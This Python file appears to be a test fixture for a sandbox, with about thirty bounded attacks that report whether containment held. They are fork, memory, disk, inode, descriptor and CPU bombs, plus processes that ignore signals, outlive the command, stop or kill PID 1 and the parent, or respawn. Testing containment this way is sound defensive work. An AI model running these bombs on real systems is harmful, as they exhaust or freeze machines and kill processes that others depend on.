"""Bombs: attacks that use up the machine, or try to outlive their end.

Each needs a box of its own, and stops at its own bound if no limit ends it. ``bomb.py NAME WITNESS``: the witness is a
named pipe that all processes of the attack hold open.
"""

import ctypes
import mmap
import os
import signal
import socket
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from itertools import count
from pathlib import Path
from typing import NoReturn

MEBIBYTE = 1 << 20
FORKS_MAX = 200
FILES_MAX = 10_000
SECONDS_MAX = 60
DESCENDANTS = 5
WITNESS = 200
BYTES_MAX = 400 * MEBIBYTE
"""Bounds of the attacks, in case that no limit ends them."""


def _wait() -> NoReturn:
    if threading.current_thread() is threading.main_thread():
        signal.signal(signal.SIGALRM, signal.SIG_DFL)
        signal.alarm(SECONDS_MAX)
    while True:
        signal.pause()


def _survive() -> None:
    """Fork to the bound, whatever fails, then stay."""
    for _ in range(FORKS_MAX):
        try:
            if not os.fork():
                _wait()
        except OSError:
            time.sleep(0.001)
    _wait()


def fork_bomb() -> None:
    _survive()


def fork_bomb_of_fork_bombs() -> None:
    started = mmap.mmap(-1, FORKS_MAX + 1)  # shared by all
    for place in range(FORKS_MAX):
        if not started[place]:
            started[place] = 1
            with suppress(OSError):
                os.fork()
    _wait()


def thread_bomb() -> None:
    threading.stack_size(65_536)
    for _ in range(FORKS_MAX):
        try:
            threading.Thread(target=signal.pause, daemon=True).start()
        except RuntimeError:
            time.sleep(0.001)
    _wait()


def zombie_bomb() -> None:
    for _ in range(FORKS_MAX):
        try:
            if not os.fork():
                os._exit(0)
        except OSError:
            time.sleep(0.001)
    _wait()


def memory_bomb() -> None:
    held = []
    with suppress(MemoryError):  # it was faster than a look of the supervisor; what it holds is too much
        for _ in range(BYTES_MAX // (16 * MEBIBYTE)):
            held.append(b"\1" * (16 * MEBIBYTE))
    assert held
    _wait()


def memory_bomb_of_many_processes() -> None:
    for _ in range(40):
        with suppress(OSError):
            if not os.fork():
                held = mmap.mmap(-1, BYTES_MAX // 40)
                for place in range(0, len(held), 4_096):
                    held[place] = 1
                _wait()
    _wait()


def memory_bomb_of_shared_pages() -> None:
    held = []
    for _ in range(BYTES_MAX // (16 * MEBIBYTE)):
        piece = mmap.mmap(-1, 16 * MEBIBYTE, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
        for place in range(0, len(piece), 4_096):
            piece[place] = 1
        held.append(piece)
    _wait()


def memory_bomb_of_files_in_memory() -> None:
    for _ in range(BYTES_MAX // (16 * MEBIBYTE)):
        place = os.memfd_create("bomb")
        for _ in range(16):
            os.write(place, b"\1" * MEBIBYTE)
    print("escaped: all files are held", flush=True)
    _wait()


def memory_bomb_of_shared_segments() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    for _ in range(BYTES_MAX // (16 * MEBIBYTE)):
        segment = libc.shmget(0, 16 * MEBIBYTE, 0o1600)
        if segment < 0:
            raise OSError(ctypes.get_errno(), "shmget")
        place = libc.shmat(segment, None, 0)
        ctypes.memset(place, 1, 16 * MEBIBYTE)
        libc.shmdt(ctypes.c_void_p(place))
    print("escaped: all segments are held", flush=True)
    _wait()


def memory_bomb_of_sockets() -> None:
    """Fill the buffers of sockets, which no process maps."""
    filled = 0
    for _ in range(40):
        child = os.fork()
        if child:
            continue
        held = []
        with suppress(OSError):
            while filled < BYTES_MAX // 40:
                pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
                held.append(pair)
                pair[0].setblocking(False)
                with suppress(BlockingIOError):
                    while True:
                        filled += pair[0].send(b"\1" * 65_536)
        _wait()
    print("fills", flush=True)
    _wait()


def _fill(directory: str, bytes_max: int) -> int:
    """Write files into a directory until it refuses. Return the bytes."""
    filled = 0
    with suppress(OSError):
        for number in count():
            with open(f"{directory}/fill-{number}", "wb") as file:
                for _ in range(16):
                    filled += file.write(b"\1" * MEBIBYTE)
                    if filled >= bytes_max:
                        return filled
    return filled


def disk_bomb_in_tmp() -> None:
    print("escaped" if _fill("/tmp", BYTES_MAX) >= BYTES_MAX else "refused")


def disk_bomb_in_shm() -> None:
    print("escaped" if _fill("/dev/shm", BYTES_MAX) >= BYTES_MAX else "refused")


def disk_bomb_elsewhere() -> None:
    """Fill every other writable directory of the box except the workspace."""
    for line in Path("/proc/self/mountinfo").read_text().splitlines():
        mount = line.split()[4].encode().decode("unicode_escape")
        if mount.startswith(("/tmp", "/dev/shm", os.getcwd())):
            continue
        if "rw" in line.split()[5].split(","):
            for directory, _below, _files in os.walk(mount):
                _fill_elsewhere(directory)
        _fill_elsewhere(mount)
    print("refused")


def _fill_elsewhere(directory: str) -> None:
    place = Path(directory, "bomb")
    with suppress(OSError):
        place.write_bytes(b"\1")
        place.unlink()
        if _fill(directory, 64 * MEBIBYTE) >= 64 * MEBIBYTE:
            print(f"escaped: {directory}")


def _make_files(directory: str) -> None:
    """Make empty files up to the bound, then stay."""
    with suppress(OSError):
        for number in range(FILES_MAX):
            os.close(os.open(f"{directory}/fill-{number}", os.O_CREAT | os.O_WRONLY))
    _wait()


def inode_bomb_in_tmp() -> None:
    _make_files("/tmp")


def inode_bomb_in_the_workspace() -> None:
    _make_files(".")


def file_bomb_in_the_workspace() -> None:
    """Make one large file."""
    with tempfile.TemporaryFile(dir=".") as file:
        for _ in range(BYTES_MAX // MEBIBYTE):
            file.write(b"\1" * MEBIBYTE)
            file.flush()
    print("escaped: the file has its whole size")


def sparse_file_bomb() -> None:
    with tempfile.TemporaryFile(dir=".") as file:
        file.truncate(BYTES_MAX)
    print("escaped: the file has its whole size")


def disk_bomb_in_the_workspace() -> None:
    _fill(".", BYTES_MAX)
    _wait()


def output_flood() -> None:
    piece = b"\1" * MEBIBYTE
    while True:  # the alarm ends it
        os.write(1, piece)


def descriptor_bomb() -> None:
    held = []
    with suppress(OSError):
        for _ in range(200_000):
            held.append(os.open("/dev/null", os.O_RDONLY))
    print("escaped" if len(held) >= 200_000 else f"refused after {len(held)}", flush=True)


def processor_bomb() -> None:
    while True:
        pass


def processor_bomb_of_short_processes() -> None:
    """Burn time in processes of which each is short, and that no parent waits for."""
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    for _ in range(SECONDS_MAX * 6):
        if not os.fork():
            end = time.process_time() + 0.2
            while time.process_time() < end:
                pass
            os._exit(0)
        time.sleep(0.15)


def stay_after_the_end() -> None:
    """Fork twice into new sessions and stay, while the command itself ends."""
    for _ in range(5):
        if not os.fork():
            os.setsid()
            if not os.fork():
                for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(number, signal.SIG_IGN)
                _wait()
            os._exit(0)
    print("left", flush=True)


def stay_with_a_new_name() -> None:
    """Stay as another program, without environment or descriptors of the command, except the witness."""
    if not os.fork():
        os.setsid()
        os.execve("/usr/bin/env", ["env", "-i", "/bin/sleep", "1000"], {})
    print("left", flush=True)


def stop_everything() -> None:
    """Stop all processes, also the parents, so that nothing can react."""
    for _ in range(3):
        if not os.fork():
            os.setsid()
            os.kill(os.getpid(), signal.SIGSTOP)
    for process in (1, os.getppid()):
        with suppress(OSError):
            os.kill(process, signal.SIGSTOP)
    print("stopped", flush=True)
    os.kill(os.getpid(), signal.SIGSTOP)


def kill_the_parents() -> None:
    """Kill the parents, and the whole group and session."""
    if not os.fork():
        os.setsid()
        _wait()
    for process in {1, os.getppid()}:
        with suppress(OSError):
            os.kill(process, signal.SIGKILL)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.kill(0, signal.SIGTERM)
    print("killed", flush=True)
    _wait()


def wait_with_descendants() -> None:
    """Start processes that no parent, session or signal ends, and report each by a byte to the witness."""
    for _ in range(DESCENDANTS):
        if not os.fork():
            os.setsid()
            if not os.fork():
                for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(number, signal.SIG_IGN)
                os.write(WITNESS, b".")
                _wait()
            os._exit(0)
    os.write(WITNESS, b".")
    _wait()


def ignore_all_signals() -> None:
    for number in range(1, 65):
        with suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    time.sleep(SECONDS_MAX)


def respawn() -> None:
    """Replace itself by a new process again and again, faster than one could kill it."""
    print("runs", flush=True)
    for _ in range(1_000):
        with suppress(OSError):
            if os.fork():
                os._exit(0)
            os.setsid()


BOMBS: dict[str, Callable[[], None]] = {
    attack.__name__: attack
    for attack in (
        *(fork_bomb, fork_bomb_of_fork_bombs, thread_bomb, zombie_bomb, memory_bomb, memory_bomb_of_many_processes),
        *(memory_bomb_of_shared_pages, memory_bomb_of_files_in_memory, memory_bomb_of_shared_segments),
        *(memory_bomb_of_sockets, disk_bomb_in_tmp, disk_bomb_in_shm, disk_bomb_elsewhere, inode_bomb_in_tmp),
        *(
            inode_bomb_in_the_workspace,
            file_bomb_in_the_workspace,
            sparse_file_bomb,
            disk_bomb_in_the_workspace,
            output_flood,
            descriptor_bomb,
        ),
        *(processor_bomb, processor_bomb_of_short_processes, stay_after_the_end, stay_with_a_new_name),
        *(stop_everything, kill_the_parents, ignore_all_signals, respawn, wait_with_descendants),
    )
}

if __name__ == "__main__":
    os.dup2(os.open(sys.argv[2], os.O_WRONLY), WITNESS)
    signal.alarm(SECONDS_MAX)
    BOMBS[sys.argv[1]]()
